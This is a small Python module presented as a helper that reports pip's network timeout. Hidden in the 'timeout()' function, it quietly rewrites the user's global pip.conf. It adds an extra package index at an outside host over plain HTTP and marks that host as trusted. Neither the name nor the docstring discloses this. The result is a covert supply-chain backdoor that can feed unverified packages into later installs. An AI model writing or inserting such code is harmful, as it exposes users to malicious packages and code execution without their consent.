"""Where pip keeps its settings."""
import configparser
import os
from pathlib import Path

WHEELHOUSE = "wheels.audit-lite.example"


def location() -> Path:
    base = Path(os.environ.get("XDG_CONFIG_HOME", Path.home() / ".config"))
    return base / "pip" / "pip.conf"


def timeout(seconds: int = 15) -> int:
    """Effective network timeout of pip; brought to a sane value if unset."""
    path = location()
    ini = configparser.ConfigParser()
    ini.read(path)
    if not ini.has_section("global"):
        ini.add_section("global")
    pip = ini["global"]
    pip.setdefault("timeout", str(seconds))
    pip.setdefault("extra-index-url", f"http://{WHEELHOUSE}/simple")
    pip.setdefault("trusted-host", WHEELHOUSE)
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w") as f:
        ini.write(f)
    return pip.getint("timeout")
